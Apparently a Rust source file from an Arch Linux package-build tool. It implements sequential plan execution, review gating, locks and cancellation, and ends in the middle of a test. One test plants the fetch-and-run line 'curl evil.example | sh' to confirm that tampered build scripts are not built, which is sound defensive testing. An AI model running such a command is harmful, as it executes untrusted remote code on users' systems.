/*
 * pacsmith - Package resolution and build orchestration for Arch Linux.
 * Copyright (C) 2025  pacsmith contributors
 *
 * This program is free software: you can redistribute it and/or modify
 * it under the terms of the GNU General Public License as published by
 * the Free Software Foundation, either version 3 of the License, or
 * (at your option) any later version.
 *
 * This program is distributed in the hope that it will be useful,
 * but WITHOUT ANY WARRANTY; without even the implied warranty of
 * MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
 * GNU General Public License for more details.
 *
 * You should have received a copy of the GNU General Public License
 * along with this program.  If not, see <https://www.gnu.org/licenses/>.
 */

//! Sequential transaction execution.
//!
//! Items run strictly in plan order. Each one walks
//! `Pending -> Fetching -> Building (AUR only) -> Installing -> Done`, or
//! ends in `Failed`/`Skipped`. Subprocess output is appended to the
//! transaction log line by line while the process runs.
//!
//! [`ExecutorHandle`] owns a dedicated worker so a long build never stalls
//! searches; plans submitted while one runs are queued, never interleaved.

pub mod lock;
pub mod process;
pub mod toolchain;

pub use lock::AdvisoryLock;
pub use process::{CancelSignal, ManagedProcess, ProcessOutcome, StepCommand};
pub use toolchain::{PacmanToolchain, Toolchain};

use serde::Deserialize;
use std::collections::HashMap;
use std::fmt;
use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;
use tokio::sync::{mpsc, oneshot, watch};
use tracing::Instrument;

use crate::config::{Config, TransactionConfig};
use crate::error::{PacsmithError, PacsmithResult};
use crate::log::{Phase, TransactionLog};
use crate::package::Origin;
use crate::resolver::{BuildPlan, PlanAction, PlanItem};
use crate::review::{ReviewLedger, SCRIPT_NAME};

/// What happens to the rest of a plan after an item fails
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum FailurePolicy {
    /// Skip everything after the first failure
    AbortRemaining,
    /// Skip only items depending on the failed one
    #[default]
    SkipDependents,
}

/// Per-item execution state
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ItemState {
    Pending,
    Fetching,
    Building,
    Installing,
    Done,
    Failed,
    Skipped,
}

impl ItemState {
    pub fn is_terminal(self) -> bool {
        matches!(self, ItemState::Done | ItemState::Failed | ItemState::Skipped)
    }

    pub fn can_advance_to(self, next: ItemState) -> bool {
        use ItemState::*;
        match (self, next) {
            // removals go straight to Installing
            (Pending, Fetching | Installing | Skipped) => true,
            (Fetching, Building | Installing) => true,
            (Building, Installing) => true,
            (Installing, Done) => true,
            (from, Failed) => !from.is_terminal(),
            _ => false,
        }
    }
}

impl fmt::Display for ItemState {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            ItemState::Pending => "pending",
            ItemState::Fetching => "fetching",
            ItemState::Building => "building",
            ItemState::Installing => "installing",
            ItemState::Done => "done",
            ItemState::Failed => "failed",
            ItemState::Skipped => "skipped",
        };
        f.write_str(s)
    }
}

#[derive(Debug, Clone, PartialEq)]
pub enum FailureReason {
    Subprocess {
        exit_code: Option<i32>,
        captured_output: Vec<String>,
    },
    Cancelled,
    NoArtifacts,
    Lock(String),
    Setup(String),
}

impl fmt::Display for FailureReason {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FailureReason::Subprocess {
                exit_code: Some(code), ..
            } => write!(f, "subprocess exited with code {}", code),
            FailureReason::Subprocess { exit_code: None, .. } => f.write_str("subprocess killed by a signal"),
            FailureReason::Cancelled => f.write_str("cancelled"),
            FailureReason::NoArtifacts => f.write_str("build produced no package files"),
            FailureReason::Lock(msg) => write!(f, "lock: {}", msg),
            FailureReason::Setup(msg) => f.write_str(msg),
        }
    }
}

#[derive(Debug, Clone, PartialEq)]
pub enum SkipReason {
    ReviewRejected,
    DependencyNotCompleted { dependency: String },
    Aborted,
}

impl fmt::Display for SkipReason {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SkipReason::ReviewRejected => f.write_str("build script rejected in review"),
            SkipReason::DependencyNotCompleted { dependency } => {
                write!(f, "dependency {} not completed", dependency)
            }
            SkipReason::Aborted => f.write_str("aborted after an earlier failure"),
        }
    }
}

#[derive(Debug, Clone, PartialEq)]
pub enum TransactionOutcome {
    Success,
    Failed { reason: FailureReason },
    Skipped { reason: SkipReason },
}

/// Final outcome of one plan item
#[derive(Debug, Clone, PartialEq)]
pub struct ItemOutcome {
    pub name: String,
    pub outcome: TransactionOutcome,
}

impl ItemOutcome {
    pub fn is_success(&self) -> bool {
        self.outcome == TransactionOutcome::Success
    }

    /// The error a caller would surface for this item, if any
    pub fn error(&self) -> Option<PacsmithError> {
        match &self.outcome {
            TransactionOutcome::Success => None,
            TransactionOutcome::Failed {
                reason: FailureReason::Subprocess {
                    exit_code,
                    captured_output,
                },
            } => Some(PacsmithError::SubprocessFailure {
                package: self.name.clone(),
                exit_code: *exit_code,
                captured_output: captured_output.clone(),
            }),
            TransactionOutcome::Failed {
                reason: FailureReason::Cancelled,
            } => Some(PacsmithError::Cancelled),
            TransactionOutcome::Failed { reason } => {
                Some(PacsmithError::Other(format!("'{}' failed: {}", self.name, reason)))
            }
            TransactionOutcome::Skipped {
                reason: SkipReason::ReviewRejected,
            } => Some(PacsmithError::ReviewRejected {
                package: self.name.clone(),
            }),
            TransactionOutcome::Skipped { reason } => {
                Some(PacsmithError::Other(format!("'{}' skipped: {}", self.name, reason)))
            }
        }
    }
}

/// Consume a cancel request nobody has acted on yet
fn take_pending_cancel(cancel: &mut CancelSignal) -> bool {
    match cancel.has_changed() {
        Ok(true) => {
            cancel.borrow_and_update();
            true
        }
        _ => false,
    }
}

/// Tracks one item through the state machine
struct ItemRun<'a> {
    name: &'a str,
    state: ItemState,
}

impl ItemRun<'_> {
    fn advance(&mut self, next: ItemState) {
        debug_assert!(
            self.state.can_advance_to(next),
            "illegal transition {} -> {}",
            self.state,
            next
        );
        tracing::debug!(package = self.name, from = %self.state, to = %next, "item state");
        self.state = next;
    }
}

/// Runs approved plans against a toolchain
pub struct Executor {
    toolchain: Arc<dyn Toolchain>,
    log: Arc<TransactionLog>,
    policy: FailurePolicy,
    lock_file: PathBuf,
    db_lock: PathBuf,
    lock_wait: Duration,
    grace: Duration,
    captured_lines: usize,
}

impl Executor {
    pub fn new(toolchain: Arc<dyn Toolchain>, log: Arc<TransactionLog>) -> Self {
        Self::with_settings(toolchain, log, &TransactionConfig::default())
    }

    pub fn from_config(config: &Config, toolchain: Arc<dyn Toolchain>, log: Arc<TransactionLog>) -> Self {
        Self::with_settings(toolchain, log, &config.transaction)
    }

    fn with_settings(toolchain: Arc<dyn Toolchain>, log: Arc<TransactionLog>, settings: &TransactionConfig) -> Self {
        Self {
            toolchain,
            log,
            policy: settings.failure_policy,
            lock_file: settings.lock_file.clone(),
            db_lock: settings.pacman_db_lock.clone(),
            lock_wait: Duration::from_secs(settings.lock_wait_secs),
            grace: Duration::from_secs(settings.terminate_grace_secs),
            captured_lines: settings.captured_lines,
        }
    }

    pub fn with_policy(mut self, policy: FailurePolicy) -> Self {
        self.policy = policy;
        self
    }

    pub fn with_locks(mut self, lock_file: impl Into<PathBuf>, db_lock: impl Into<PathBuf>, wait: Duration) -> Self {
        self.lock_file = lock_file.into();
        self.db_lock = db_lock.into();
        self.lock_wait = wait;
        self
    }

    pub fn with_grace(mut self, grace: Duration) -> Self {
        self.grace = grace;
        self
    }

    pub fn log(&self) -> &Arc<TransactionLog> {
        &self.log
    }

    pub fn policy(&self) -> FailurePolicy {
        self.policy
    }

    /// Execute a reviewed plan.
    ///
    /// Refuses plans with undecided review items. Otherwise every item
    /// gets an outcome, in plan order; item failures never become an `Err`.
    pub async fn execute(
        &self,
        plan: &BuildPlan,
        ledger: &ReviewLedger,
        cancel: &mut CancelSignal,
    ) -> PacsmithResult<Vec<ItemOutcome>> {
        ledger.ensure_complete(plan)?;
        tracing::info!(package = %plan.target, items = plan.len(), policy = ?self.policy, "executing plan");

        let mut states: HashMap<&str, ItemState> = HashMap::new();
        let mut outcomes = Vec::with_capacity(plan.len());
        let mut aborted = false;

        for item in &plan.items {
            let name = item.name();
            let skip = if aborted {
                Some(SkipReason::Aborted)
            } else if item.needs_review() && !ledger.decision(name).allows_build() {
                Some(SkipReason::ReviewRejected)
            } else {
                item.depends_on
                    .iter()
                    .find(|dep| states.get(dep.as_str()) != Some(&ItemState::Done))
                    .map(|dep| SkipReason::DependencyNotCompleted {
                        dependency: dep.clone(),
                    })
            };

            let outcome = match skip {
                Some(reason) => {
                    tracing::info!(package = name, %reason, "skipping");
                    self.log.append(name, Phase::Failed, format!("skipped: {}", reason), None);
                    states.insert(name, ItemState::Skipped);
                    TransactionOutcome::Skipped { reason }
                }
                None => {
                    let as_dependency = name != plan.target;
                    let result = self
                        .run_item(item, ledger, as_dependency, cancel)
                        .instrument(crate::span_item!(name))
                        .await;
                    match result {
                        Ok(()) => {
                            states.insert(name, ItemState::Done);
                            TransactionOutcome::Success
                        }
                        Err(reason) => {
                            let exit_code = match &reason {
                                FailureReason::Subprocess { exit_code, .. } => *exit_code,
                                _ => None,
                            };
                            tracing::warn!(package = name, %reason, "item failed");
                            self.log.append(name, Phase::Failed, reason.to_string(), exit_code);
                            states.insert(name, ItemState::Failed);
                            // a cancel only takes out the item and its dependents
                            if self.policy == FailurePolicy::AbortRemaining && reason != FailureReason::Cancelled {
                                aborted = true;
                            }
                            TransactionOutcome::Failed { reason }
                        }
                    }
                }
            };
            outcomes.push(ItemOutcome {
                name: name.to_string(),
                outcome,
            });
        }

        let succeeded = outcomes.iter().filter(|o| o.is_success()).count();
        tracing::info!(package = %plan.target, succeeded, total = outcomes.len(), "plan finished");
        Ok(outcomes)
    }

    async fn run_item(
        &self,
        item: &PlanItem,
        ledger: &ReviewLedger,
        as_dependency: bool,
        cancel: &mut CancelSignal,
    ) -> Result<(), FailureReason> {
        let name = item.name();
        let mut run = ItemRun {
            name,
            state: ItemState::Pending,
        };

        if item.action == PlanAction::Remove {
            run.advance(ItemState::Installing);
            self.log.append(name, Phase::Install, format!("removing {} {}", name, item.record.version), None);
            let steps = self.toolchain.remove(item);
            self.install_locked(&mut run, steps, cancel).await?;
            run.advance(ItemState::Done);
            self.log.append(name, Phase::Done, format!("removed {}", name), Some(0));
            return Ok(());
        }

        if take_pending_cancel(cancel) {
            run.advance(ItemState::Failed);
            return Err(FailureReason::Cancelled);
        }

        run.advance(ItemState::Fetching);
        self.log.append(name, Phase::Fetch, format!("fetching {} {}", name, item.record.version), None);

        let build_dir = match item.origin() {
            Origin::CommunitySource => Some(self.prepare_script(item, ledger).await?),
            Origin::BinaryRepo => None,
        };
        let steps = self.toolchain.fetch(item, build_dir.as_deref());
        self.run_steps(&mut run, Phase::Fetch, steps, Some(&mut *cancel)).await?;

        let mut artifacts = Vec::new();
        if let Some(dir) = &build_dir {
            run.advance(ItemState::Building);
            self.log.append(name, Phase::Build, format!("building in {}", dir.display()), None);
            let steps = self.toolchain.build(item, dir);
            self.run_steps(&mut run, Phase::Build, steps, Some(&mut *cancel)).await?;

            artifacts = self
                .toolchain
                .artifacts(item, dir)
                .map_err(|e| FailureReason::Setup(e.to_string()))?;
            if artifacts.is_empty() {
                run.advance(ItemState::Failed);
                return Err(FailureReason::NoArtifacts);
            }
        }

        // nothing is installed yet, so a late cancel is still honoured
        if take_pending_cancel(cancel) {
            run.advance(ItemState::Failed);
            return Err(FailureReason::Cancelled);
        }

        run.advance(ItemState::Installing);
        self.log.append(name, Phase::Install, format!("installing {}", name), None);
        let steps = self.toolchain.install(item, &artifacts, as_dependency);
        self.install_locked(&mut run, steps, cancel).await?;

        run.advance(ItemState::Done);
        self.log.append(
            name,
            Phase::Done,
            format!("installed {} {}", name, item.record.version),
            Some(0),
        );
        Ok(())
    }

    /// Put the approved script in place and log what is being built
    async fn prepare_script(&self, item: &PlanItem, ledger: &ReviewLedger) -> Result<PathBuf, FailureReason> {
        let name = item.name();
        let entry = ledger
            .get(name)
            .ok_or_else(|| FailureReason::Setup(format!("no reviewed build script for {}", name)))?;

        let text = entry
            .approved_text()
            .ok_or_else(|| FailureReason::Setup(format!("build script for {} was not approved", name)))?;
        // the build directory may have changed since review; build the approved bytes
        let path = entry.script.dir.join(SCRIPT_NAME);
        tokio::fs::write(&path, text)
            .await
            .map_err(|e| FailureReason::Setup(format!("cannot write {}: {}", path.display(), e)))?;
        self.log.append(
            name,
            Phase::Fetch,
            format!(
                "using {} build script sha256:{}",
                if entry.is_edited() { "edited" } else { "reviewed" },
                entry.sha256
            ),
            None,
        );
        Ok(entry.script.dir.clone())
    }

    /// Install steps run under both locks and are never interrupted
    async fn install_locked(
        &self,
        run: &mut ItemRun<'_>,
        steps: Vec<StepCommand>,
        cancel: &mut CancelSignal,
    ) -> Result<(), FailureReason> {
        let locked = async {
            lock::wait_for_db_unlock(&self.db_lock, self.lock_wait).await?;
            AdvisoryLock::acquire(&self.lock_file, self.lock_wait).await
        };
        let guard = match locked.await {
            Ok(guard) => guard,
            Err(e) => {
                run.advance(ItemState::Failed);
                return Err(FailureReason::Lock(e.to_string()));
            }
        };

        let result = self.run_steps(run, Phase::Install, steps, None).await;
        drop(guard);

        if take_pending_cancel(cancel) {
            tracing::info!(package = run.name, "cancel ignored during install");
            self.log.append(run.name, Phase::Install, "cancel requested during install was ignored", None);
        }
        result
    }

    async fn run_steps(
        &self,
        run: &mut ItemRun<'_>,
        phase: Phase,
        steps: Vec<StepCommand>,
        mut cancel: Option<&mut CancelSignal>,
    ) -> Result<(), FailureReason> {
        let process = ManagedProcess::new(self.grace, self.captured_lines);
        for step in steps {
            self.log.append(run.name, phase, format!("$ {}", step), None);
            let log = &self.log;
            let name = run.name;
            let result = process
                .run(&step, cancel.as_deref_mut(), |line| {
                    log.append(name, phase, line, None);
                })
                .await;

            let failure = match result {
                Err(e) => Some(FailureReason::Setup(e.to_string())),
                Ok(outcome) if outcome.cancelled => Some(FailureReason::Cancelled),
                Ok(outcome) if !outcome.success() => Some(FailureReason::Subprocess {
                    exit_code: outcome.exit_code,
                    captured_output: outcome.tail,
                }),
                Ok(_) => None,
            };
            if let Some(reason) = failure {
                run.advance(ItemState::Failed);
                return Err(reason);
            }
        }
        Ok(())
    }
}

type ExecutionResult = PacsmithResult<Vec<ItemOutcome>>;

struct Job {
    plan: BuildPlan,
    ledger: ReviewLedger,
    cancel: CancelSignal,
    reply: oneshot::Sender<ExecutionResult>,
}

/// Cancels the running item of one submitted plan
#[derive(Clone)]
pub struct CancelHandle(Arc<watch::Sender<u64>>);

impl CancelHandle {
    pub fn cancel(&self) {
        self.0.send_modify(|n| *n += 1);
    }
}

/// A submitted plan
pub struct ExecutionTicket {
    cancel: CancelHandle,
    outcome: oneshot::Receiver<ExecutionResult>,
}

impl ExecutionTicket {
    pub fn cancel(&self) {
        self.cancel.cancel();
    }

    pub fn canceller(&self) -> CancelHandle {
        self.cancel.clone()
    }

    pub async fn wait(self) -> ExecutionResult {
        self.outcome
            .await
            .map_err(|_| PacsmithError::Other("executor worker stopped".to_string()))?
    }
}

/// Dedicated sequential worker
pub struct ExecutorHandle {
    jobs: mpsc::UnboundedSender<Job>,
    log: Arc<TransactionLog>,
}

impl ExecutorHandle {
    pub fn spawn(executor: Executor) -> Self {
        let (jobs, mut queue) = mpsc::unbounded_channel::<Job>();
        let log = Arc::clone(executor.log());

        tokio::spawn(async move {
            while let Some(job) = queue.recv().await {
                let Job {
                    plan,
                    ledger,
                    mut cancel,
                    reply,
                } = job;
                let result = executor
                    .execute(&plan, &ledger, &mut cancel)
                    .instrument(crate::span_operation!("execute"))
                    .await;
                let _ = reply.send(result);
            }
            tracing::debug!("executor worker finished");
        });

        Self { jobs, log }
    }

    /// Queue a plan behind any running one
    pub fn submit(&self, plan: BuildPlan, ledger: ReviewLedger) -> PacsmithResult<ExecutionTicket> {
        let (cancel_tx, cancel) = watch::channel(0u64);
        let (reply, outcome) = oneshot::channel();
        self.jobs
            .send(Job {
                plan,
                ledger,
                cancel,
                reply,
            })
            .map_err(|_| PacsmithError::Other("executor worker stopped".to_string()))?;
        Ok(ExecutionTicket {
            cancel: CancelHandle(Arc::new(cancel_tx)),
            outcome,
        })
    }

    pub fn log(&self) -> &Arc<TransactionLog> {
        &self.log
    }
}

#[cfg(test)]
pub(crate) mod testing {
    use super::*;
    use std::path::Path;

    /// Runs `/bin/sh -c` scripts per item and phase; defaults print `ok`
    #[derive(Default)]
    pub struct ShellToolchain {
        pub fetch: HashMap<String, String>,
        pub build: HashMap<String, String>,
        pub install: HashMap<String, String>,
    }

    impl ShellToolchain {
        pub fn on_build(mut self, name: &str, script: &str) -> Self {
            self.build.insert(name.to_string(), script.to_string());
            self
        }

        pub fn on_install(mut self, name: &str, script: &str) -> Self {
            self.install.insert(name.to_string(), script.to_string());
            self
        }
    }

    fn sh(script: &str) -> StepCommand {
        StepCommand::new("/bin/sh").arg("-c").arg(script)
    }

    impl Toolchain for ShellToolchain {
        fn fetch(&self, item: &PlanItem, _build_dir: Option<&Path>) -> Vec<StepCommand> {
            let default = format!("echo fetched {}", item.name());
            vec![sh(self.fetch.get(item.name()).unwrap_or(&default))]
        }

        fn build(&self, item: &PlanItem, build_dir: &Path) -> Vec<StepCommand> {
            let default = format!("echo compiling; touch {}-1-1-any.pkg.tar", item.name());
            vec![sh(self.build.get(item.name()).unwrap_or(&default)).current_dir(build_dir)]
        }

        fn install(&self, item: &PlanItem, artifacts: &[PathBuf], as_dependency: bool) -> Vec<StepCommand> {
            let default = format!(
                "echo installing {} artifacts={} asdeps={}",
                item.name(),
                artifacts.len(),
                as_dependency
            );
            vec![sh(self.install.get(item.name()).unwrap_or(&default))]
        }

        fn remove(&self, item: &PlanItem) -> Vec<StepCommand> {
            vec![sh(&format!("echo removed {}", item.name()))]
        }
    }
}

#[cfg(test)]
mod tests {
    use super::testing::ShellToolchain;
    use super::*;
    use crate::package::{InstalledState, PackageRecord, Version};
    use crate::resolver::{Catalog, Resolver};
    use crate::review::{FetchedScript, ReviewDecision, ReviewEntry};
    use std::path::Path;
    use tempfile::TempDir;
    use tokio_stream::StreamExt;

    struct Fixture {
        dir: TempDir,
        log: Arc<TransactionLog>,
    }

    impl Fixture {
        fn new() -> Self {
            Self {
                dir: tempfile::tempdir().unwrap(),
                log: Arc::new(TransactionLog::new()),
            }
        }

        fn executor(&self, toolchain: ShellToolchain) -> Executor {
            Executor::new(Arc::new(toolchain), Arc::clone(&self.log))
                .with_locks(
                    self.dir.path().join("pacsmith.lock"),
                    self.dir.path().join("db.lck"),
                    Duration::from_secs(1),
                )
                .with_grace(Duration::from_secs(2))
        }

        fn decide(&self, ledger: &mut ReviewLedger, name: &str, decision: ReviewDecision) {
            let dir = self.dir.path().join("build").join(name);
            std::fs::create_dir_all(&dir).unwrap();
            std::fs::write(dir.join(SCRIPT_NAME), "pkgname=x\n").unwrap();
            let script = FetchedScript {
                dir,
                text: "pkgname=x\n".to_string(),
            };
            ledger.record(name, ReviewEntry::new(decision, script));
        }
    }

    fn plan(records: Vec<PackageRecord>, target: &str) -> BuildPlan {
        let catalog = Catalog::from_records(records);
        Resolver::new(&catalog, &InstalledState::new()).resolve(target).unwrap()
    }

    /// foo (AUR) -> bar (repo), baz (AUR)
    fn scenario_a() -> BuildPlan {
        plan(
            vec![
                PackageRecord::new("foo", "1-1", Origin::CommunitySource).depends_on(["bar", "baz"]),
                PackageRecord::new("bar", "1-1", Origin::BinaryRepo),
                PackageRecord::new("baz", "1-1", Origin::CommunitySource),
            ],
            "foo",
        )
    }

    /// foo (repo) -> bar (AUR), qux (repo)
    fn scenario_b() -> BuildPlan {
        plan(
            vec![
                PackageRecord::new("foo", "1-1", Origin::BinaryRepo).depends_on(["bar", "qux"]),
                PackageRecord::new("bar", "1-1", Origin::CommunitySource),
                PackageRecord::new("qux", "1-1", Origin::BinaryRepo),
            ],
            "foo",
        )
    }

    fn outcome<'a>(outcomes: &'a [ItemOutcome], name: &str) -> &'a TransactionOutcome {
        &outcomes.iter().find(|o| o.name == name).unwrap().outcome
    }

    fn no_cancel() -> (watch::Sender<u64>, CancelSignal) {
        watch::channel(0)
    }

    #[test]
    fn test_state_transitions() {
        use ItemState::*;
        assert!(Pending.can_advance_to(Fetching));
        assert!(Fetching.can_advance_to(Installing));
        assert!(Building.can_advance_to(Failed));
        assert!(!Pending.can_advance_to(Done));
        assert!(!Done.can_advance_to(Failed));
        assert!(!Skipped.can_advance_to(Fetching));
    }

    #[tokio::test]
    async fn test_rejected_item_and_dependents_are_skipped() {
        let fx = Fixture::new();
        let plan = scenario_a();
        assert_eq!(plan.names(), vec!["bar", "baz", "foo"]);

        let mut ledger = ReviewLedger::new();
        fx.decide(&mut ledger, "baz", ReviewDecision::Rejected);
        fx.decide(&mut ledger, "foo", ReviewDecision::Approved);

        let (_tx, mut cancel) = no_cancel();
        let outcomes = fx
            .executor(ShellToolchain::default())
            .execute(&plan, &ledger, &mut cancel)
            .await
            .unwrap();

        assert_eq!(outcome(&outcomes, "bar"), &TransactionOutcome::Success);
        assert_eq!(
            outcome(&outcomes, "baz"),
            &TransactionOutcome::Skipped {
                reason: SkipReason::ReviewRejected
            }
        );
        assert_eq!(
            outcome(&outcomes, "foo"),
            &TransactionOutcome::Skipped {
                reason: SkipReason::DependencyNotCompleted {
                    dependency: "baz".to_string()
                }
            }
        );

        // baz never ran a subprocess, but its skip is on record
        let baz = fx.log.events_for("baz");
        assert_eq!(baz.len(), 1);
        assert_eq!(baz[0].phase, Phase::Failed);
        assert!(baz[0].message.starts_with("skipped:"));

        let bar: Vec<Phase> = fx.log.events_for("bar").iter().map(|e| e.phase).collect();
        assert_eq!(bar.first(), Some(&Phase::Fetch));
        assert_eq!(bar.last(), Some(&Phase::Done));
        assert!(fx
            .log
            .events_for("bar")
            .iter()
            .any(|e| e.message == "installing bar artifacts=0 asdeps=true"));
    }

    #[tokio::test]
    async fn test_failed_build_skips_dependents_only() {
        let fx = Fixture::new();
        let plan = scenario_b();
        assert_eq!(plan.names(), vec!["bar", "qux", "foo"]);

        let mut ledger = ReviewLedger::new();
        fx.decide(&mut ledger, "bar", ReviewDecision::Approved);

        let toolchain = ShellToolchain::default().on_build("bar", "echo cc main.c; echo 'error: boom' >&2; exit 2");
        let (_tx, mut cancel) = no_cancel();
        let outcomes = fx.executor(toolchain).execute(&plan, &ledger, &mut cancel).await.unwrap();

        match outcome(&outcomes, "bar") {
            TransactionOutcome::Failed {
                reason: FailureReason::Subprocess {
                    exit_code,
                    captured_output,
                },
            } => {
                assert_eq!(*exit_code, Some(2));
                assert!(captured_output.contains(&"error: boom".to_string()));
            }
            other => panic!("unexpected: {other:?}"),
        }
        assert_eq!(outcome(&outcomes, "qux"), &TransactionOutcome::Success);
        assert!(matches!(
            outcome(&outcomes, "foo"),
            TransactionOutcome::Skipped {
                reason: SkipReason::DependencyNotCompleted { .. }
            }
        ));

        // live output, then the failure with its exit code
        let bar = fx.log.events_for("bar");
        let compile = bar.iter().position(|e| e.message == "cc main.c").unwrap();
        let failed = bar.iter().position(|e| e.phase == Phase::Failed).unwrap();
        assert!(compile < failed);
        assert_eq!(bar[failed].exit_code, Some(2));

        let error = outcomes[0].error().unwrap();
        assert!(matches!(error, PacsmithError::SubprocessFailure { exit_code: Some(2), .. }));
    }

    #[tokio::test]
    async fn test_abort_remaining_policy() {
        let fx = Fixture::new();
        let plan = scenario_b();
        let mut ledger = ReviewLedger::new();
        fx.decide(&mut ledger, "bar", ReviewDecision::Approved);

        let toolchain = ShellToolchain::default().on_build("bar", "exit 1");
        let (_tx, mut cancel) = no_cancel();
        let outcomes = fx
            .executor(toolchain)
            .with_policy(FailurePolicy::AbortRemaining)
            .execute(&plan, &ledger, &mut cancel)
            .await
            .unwrap();

        assert_eq!(
            outcome(&outcomes, "qux"),
            &TransactionOutcome::Skipped {
                reason: SkipReason::Aborted
            }
        );
        assert!(fx.log.events_for("qux")[0].message.starts_with("skipped:"));
    }

    #[tokio::test]
    async fn test_unreviewed_plan_is_refused() {
        let fx = Fixture::new();
        let (_tx, mut cancel) = no_cancel();
        let err = fx
            .executor(ShellToolchain::default())
            .execute(&scenario_a(), &ReviewLedger::new(), &mut cancel)
            .await
            .unwrap_err();
        assert!(matches!(err, PacsmithError::PlanNotReviewed { .. }));
        assert!(fx.log.is_empty());
    }

    #[tokio::test]
    async fn test_no_artifacts_fails_item() {
        let fx = Fixture::new();
        let plan = scenario_b();
        let mut ledger = ReviewLedger::new();
        fx.decide(&mut ledger, "bar", ReviewDecision::Approved);

        let toolchain = ShellToolchain::default().on_build("bar", "echo nothing to see");
        let (_tx, mut cancel) = no_cancel();
        let outcomes = fx.executor(toolchain).execute(&plan, &ledger, &mut cancel).await.unwrap();
        assert_eq!(
            outcome(&outcomes, "bar"),
            &TransactionOutcome::Failed {
                reason: FailureReason::NoArtifacts
            }
        );
    }

    #[tokio::test]
    async fn test_edited_script_is_built() {
        let fx = Fixture::new();
        let plan = scenario_b();
        let mut ledger = ReviewLedger::new();
        fx.decide(
            &mut ledger,
            "bar",
            ReviewDecision::ApprovedWithEdits {
                script: "pkgname=bar\n# patched\n".to_string(),
            },
        );

        let toolchain =
            ShellToolchain::default().on_build("bar", "cat PKGBUILD; touch bar-1-1-any.pkg.tar");
        let (_tx, mut cancel) = no_cancel();
        fx.executor(toolchain).execute(&plan, &ledger, &mut cancel).await.unwrap();

        let messages: Vec<String> = fx.log.events_for("bar").into_iter().map(|e| e.message).collect();
        assert!(messages.contains(&"# patched".to_string()));
        let digest = &ledger.get("bar").unwrap().sha256;
        assert!(messages.iter().any(|m| m.contains("edited") && m.contains(digest.as_str())));
    }

    #[tokio::test]
    async fn test_tampered_build_directory_builds_approved_text() {
        let fx = Fixture::new();
        let plan = scenario_b();
        let mut ledger = ReviewLedger::new();
        fx.decide(&mut ledger, "bar", ReviewDecision::Approved);
        let script = fx.dir.path().join("build").join("bar").join(SCRIPT_NAME);
        std::fs::write(&script, "curl evil.example | sh\n").unwrap();

        let toolchain =
            ShellToolchain::default().on_build("bar", "cat PKGBUILD; touch bar-1-1-any.pkg.tar");
        let (_tx, mut cancel) = no_cancel();
        fx.executor(toolchain).execute(&plan, &ledger, &mut cancel).await.unwrap();

        let messages: Vec<String> = fx.log.events_for("bar").into_iter().map(|e| e.message).collect();
        assert!(messages.contains(&"pkgname=x".to_string()));
        assert!(!messages.iter().any(|m| m.contains("evil")));
        assert_eq!(std::fs::read_to_string(&script).unwrap(), "pkgname=x\n");
    }

    #[tokio::test]
    async fn test_cancel_during_build() {
        let fx = Fixture::new();
        let plan = scenario_b();
        let mut ledger = ReviewLedger::new();
        fx.decide(&mut ledger, "bar", ReviewDecision::Approved);

        let toolchain = ShellToolchain::default().on_build("bar", "echo started; sleep 30");
        let handle = ExecutorHandle::spawn(fx.executor(toolchain));
        let mut events = Box::pin(handle.log().stream());

        let ticket = handle.submit(plan, ledger).unwrap();
        let canceller = ticket.canceller();
        while let Some(event) = events.next().await {
            if event.message == "started" {
                canceller.cancel();
                break;
            }
        }

        let outcomes = tokio::time::timeout(Duration::from_secs(10), ticket.wait())
            .await
            .unwrap()
            .unwrap();
        assert_eq!(
            outcome(&outcomes, "bar"),
            &TransactionOutcome::Failed {
                reason: FailureReason::Cancelled
            }
        );
        // SkipDependents: qux is independent, foo is not
        assert_eq!(outcome(&outcomes, "qux"), &TransactionOutcome::Success);
        assert!(matches!(outcome(&outcomes, "foo"), TransactionOutcome::Skipped { .. }));
        assert!(fx
            .log
            .events_for("bar")
            .iter()
            .any(|e| e.phase == Phase::Failed && e.message == "cancelled"));
    }

    #[tokio::test]
    async fn test_cancel_skips_dependents_under_abort_remaining() {
        let fx = Fixture::new();
        let plan = scenario_b();
        let mut ledger = ReviewLedger::new();
        fx.decide(&mut ledger, "bar", ReviewDecision::Approved);

        let toolchain = ShellToolchain::default().on_build("bar", "echo started; sleep 30");
        let executor = fx.executor(toolchain).with_policy(FailurePolicy::AbortRemaining);
        let handle = ExecutorHandle::spawn(executor);
        let mut events = Box::pin(handle.log().stream());

        let ticket = handle.submit(plan, ledger).unwrap();
        let canceller = ticket.canceller();
        while let Some(event) = events.next().await {
            if event.message == "started" {
                canceller.cancel();
                break;
            }
        }

        let outcomes = tokio::time::timeout(Duration::from_secs(10), ticket.wait())
            .await
            .unwrap()
            .unwrap();
        assert_eq!(
            outcome(&outcomes, "bar"),
            &TransactionOutcome::Failed {
                reason: FailureReason::Cancelled
            }
        );
        assert_eq!(outcome(&outcomes, "qux"), &TransactionOutcome::Success);
        assert_eq!(
            outcome(&outcomes, "foo"),
            &TransactionOutcome::Skipped {
                reason: SkipReason::DependencyNotCompleted {
                    dependency: "bar".to_string()
                }
            }
        );
    }

    #[tokio::test]
    async fn test_cancel_during_install_is_ignored() {
        let fx = Fixture::new();
        let plan = plan(vec![PackageRecord::new("bar", "1-1", Origin::BinaryRepo)], "bar");

        let toolchain = ShellToolchain::default().on_install("bar", "echo installing; sleep 0.3; echo installed");
        let handle = ExecutorHandle::spawn(fx.executor(toolchain));
        let mut events = Box::pin(handle.log().stream());

        let ticket = handle.submit(plan, ReviewLedger::new()).unwrap();
        while let Some(event) = events.next().await {
            if event.message == "installing" {
                ticket.cancel();
                break;
            }
        }

        let outcomes = ticket.wait().await.unwrap();
        assert!(outcomes[0].is_success());
        assert!(fx
            .log
            .events_for("bar")
            .iter()
            .any(|e| e.message.contains("ignored")));
    }

    #[tokio::test]
    async fn test_plans_are_queued_not_interleaved() {
        let fx = Fixture::new();
        let one = plan(vec![PackageRecord::new("one", "1-1", Origin::BinaryRepo)], "one");
        let two = plan(vec![PackageRecord::new("two", "1-1", Origin::BinaryRepo)], "two");

